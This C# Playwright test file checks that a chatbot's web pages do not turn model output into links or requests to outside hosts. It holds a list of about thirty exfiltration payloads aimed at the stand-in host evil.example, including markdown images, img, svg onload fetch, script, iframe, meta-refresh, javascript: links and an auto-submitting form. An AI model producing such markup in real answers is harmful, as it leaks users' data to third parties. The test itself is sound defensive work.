using System.Globalization;
using System.Text.Json.Nodes;
using Bot.Answering;
using Bot.Models;
using Bot.Tests.Models.Stub;
using Bot.Tests.Support;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;

namespace Bot.Tests.Models.Attacks;

/// <summary>Outputs that would send something elsewhere, shown by Microsoft's Web Chat in a real browser: as sentences of the model, of which the check drops most, and, since each is also the title and the
/// text of a document, as what the model's answer rests on. So all of them are shown below what it wrote.</summary>
public sealed class ExfiltrationInBrowserTests
{
    // As many sources as a message shows.
    private const int AtOnce = 10;
    private const string Fact = "The embassy in Rabat was opened on 11 June 1956.";
    private const string ByModel = "Written by a language model";

    // {0} is what would be carried off, and shows that the output was shown.
    private static readonly string[] Ways =
    [
        "![{0}](https://evil.example/{0}.png)", "[{0}](https://evil.example/?q={0})", "[{0}][e]\n\n[e]: https://evil.example/{0}", "![{0}][i]\n\n[i]: <https://evil.example/{0}.png> \"x\"", "<https://evil.example/{0}>", "https://evil.example/{0}",
        "www.evil.example/{0}", "//evil.example/{0}", "{0} <img src=https://evil.example/{0}.png>", "{0} <img srcset=\"//evil.example/{0} 2x\">", "{0} <svg><image href=\"https://evil.example/{0}\"/></svg>", "{0} <svg onload=\"fetch('//evil.example/{0}')\">",
        "{0} <div style=\"background:url(https://evil.example/{0})\">", "{0} <style>@import url(//evil.example/{0});</style>", "{0} <link rel=stylesheet href=//evil.example/{0}.css>", "{0} <link rel=prefetch href=//evil.example/{0}>",
        "{0} <iframe src=https://evil.example/{0}></iframe>", "{0} <object data=//evil.example/{0}></object>", "{0} <video poster=//evil.example/{0}>", "{0} <form action=//evil.example/{0}><input autofocus onfocus=submit()></form>",
        "{0} <meta http-equiv=refresh content=\"0;url=https://evil.example/{0}\">", "{0} <base href=//evil.example/>", "{0} <script src=//evil.example/{0}.js></script>", "[{0}](javascript:fetch('//evil.example/{0}'))", "[{0}](data:text/html,{0})",
        "{0} https://xn--80ak6aa92e.com/{0}", "{0} http:\\\\evil.example\\{0}", "{0} \u001b]8;;https://evil.example/{0}\u0007click\u001b]8;;\u0007", "{0} [1](https://evil.example/{0}) and [1]: https://evil.example/{0}", "{0} <a href=//evil.example/{0} ping=//evil.example/p>a</a>",
    ];

    private static readonly string[] Wraps = ["{0}", "The embassy: {0}", "**{0}**", "> {0}", "- {0}", "| a | {0} |", "`` {0}", "{0}\n{0}", "\\{0}", "&#33;{0}"];

    [Fact]
    public async Task OfThreeHundredOutputsNoneMakesARequestElsewhereOrALinkThither_P2()
    {
        Chromium.Require();
        if (!ChatSite.Bundle.IsThere) Assert.Skip("The build could not bring Web Chat.");
        var outputs = Wraps.SelectMany(wrap => Ways.Select(way => Put(wrap, way))).Select((output, i) => output.Replace("{0}", Token(i), StringComparison.Ordinal)).ToList();
        Assert.Equal(300, outputs.Count);
        var passages = outputs.Select((output, i) => Whole(Some.Document($"{i}.md", $"{Fact} {output}", title: output.ReplaceLineEndings(" ")))).ToList();
        var search = new Batches(passages);
        await using var stub = await StubModel.StartAsync(StubModel.Saying(request => Reply(Prompted.Passages(request))));
        using var model = new LanguageModel(ModelOf.Options(new Uri(stub.Address, "v1"), seconds: 60), TimeProvider.System);
        var extractive = new FirstQuoted();
        var answerer = new QuestionAnswerer(search, extractive, new ModelComposer(extractive, model, 0.7, new EveryLogLine()));
        await using var bot = await WebBot.StartAsync(search, extractive, services => services.AddSingleton(answerer).AddSingleton(ChatSite.Bundle).AddSingleton(Some.Sources([.. passages.Select(passage => passage.Document)])));
        using var playwright = await Playwright.CreateAsync();
        await using var browser = await Chromium.LaunchAsync(playwright);
        var shown = new HashSet<int>();

        for (var from = 0; from < outputs.Count; from += AtOnce)
        {
            search.From = from;
            await using var visit = await Visit.StartAsync(await browser.NewContextAsync(new() { Locale = "en" }));
            await visit.Page.GotoAsync(bot.Address.ToString());
            await ShowAsync(visit, Token(from));
            var text = await visit.Page.Locator("#chat").InnerTextAsync();
            Assert.Contains(ByModel, text, StringComparison.Ordinal);
            for (var i = from; i < from + AtOnce; i++)
                if (text.Contains(Token(i), StringComparison.OrdinalIgnoreCase)) shown.Add(i);
            foreach (var address in await visit.Page.EvaluateAsync<string[]>("[...document.querySelectorAll('#chat a[href], #chat [src], #chat [srcset]')].map(e => e.href || e.src || e.srcset)"))
                Assert.True(address.StartsWith("data:image/", StringComparison.Ordinal) || address.StartsWith("blob:", StringComparison.Ordinal) || new Uri(address).Authority == bot.Address.Authority, $"A link or an image leads to {address}.");
            visit.AssertCalm(bot.Address);
            // The same on the page without the chat.
            await visit.Page.GotoAsync(new Uri(bot.Address, "/?q=When+was+the+embassy+in+Rabat+opened%3F").ToString());
            await Assertions.Expect(visit.Page.Locator("main")).ToContainTextAsync(ByModel);
            var quotes = string.Concat(await visit.Page.Locator("blockquote").AllTextContentsAsync());
            for (var i = from; i < from + AtOnce; i++) Assert.Contains(Token(i), quotes, StringComparison.Ordinal);
            foreach (var address in await visit.Page.EvaluateAsync<string[]>("[...document.querySelectorAll('a[href], [src]')].map(e => e.href || e.src)"))
                Assert.Equal(bot.Address.Authority, new Uri(address).Authority);
            visit.AssertCalm(bot.Address);
        }

        Assert.Equal(outputs.Count, shown.Count);
    }

    // On a busy machine a question may be typed before the chat is ready for it: then it is asked again.
    private static async Task ShowAsync(Visit visit, string token)
    {
        for (var tries = 1; ; tries++)
        {
            await visit.AskAsync("When was the embassy in Rabat opened?");
            try
            {
                await Assertions.Expect(visit.Page.Locator("#chat")).ToContainTextAsync(token, new() { Timeout = 30_000 });
                return;
            }
            catch (PlaywrightException) when (tries < 3)
            {
            }
        }
    }

    // What answers comes first, or nothing would be given; it rests on all that was found. Then each output as a sentence of its own.
    private static string Reply(IReadOnlyDictionary<int, string> found)
    {
        var reply = JsonNode.Parse(Prompted.Reply("11 June 1956", [(Fact, 1, found[1]), .. found.Select(passage => (passage.Value.Replace(Fact, "", StringComparison.Ordinal), passage.Key, passage.Value))]))!;
        var grounds = reply["sentences"]![0]!["citations"]!.AsArray();
        foreach (var (number, text) in found.Where(passage => passage.Key > 1)) grounds.Add(new JsonObject { ["passage"] = number, ["quote"] = text });
        return reply.ToJsonString();
    }

    private static Passage Whole(Document document) => new(document, 0, document.Text.Length, "", PassageKind.Prose);

    private static string Put(string wrap, string way) => wrap.Replace("{0}", way, StringComparison.Ordinal);

    private static string Token(int i) => string.Create(CultureInfo.InvariantCulture, $"carried{i}off");

    // More than one would be an answer over all documents, for which no model is asked.
    private sealed class FirstQuoted : IAnswerComposer
    {
        public Task<Draft> ComposeAsync(Question question, Evidence evidence, CancellationToken cancellationToken) => Task.FromResult(QuotingComposer.Quote(null, evidence.Passages.Take(1)));
    }

    private sealed class Batches(IReadOnlyList<Passage> passages) : IPassageSearch
    {
        public int From { get; set; }

        public Task<Evidence> SearchAsync(Question question, int limit, CancellationToken cancellationToken) =>
            Task.FromResult(new Evidence([.. passages.Skip(From).Take(AtOnce)], new Dictionary<string, double>(), passages.Count));
    }
}
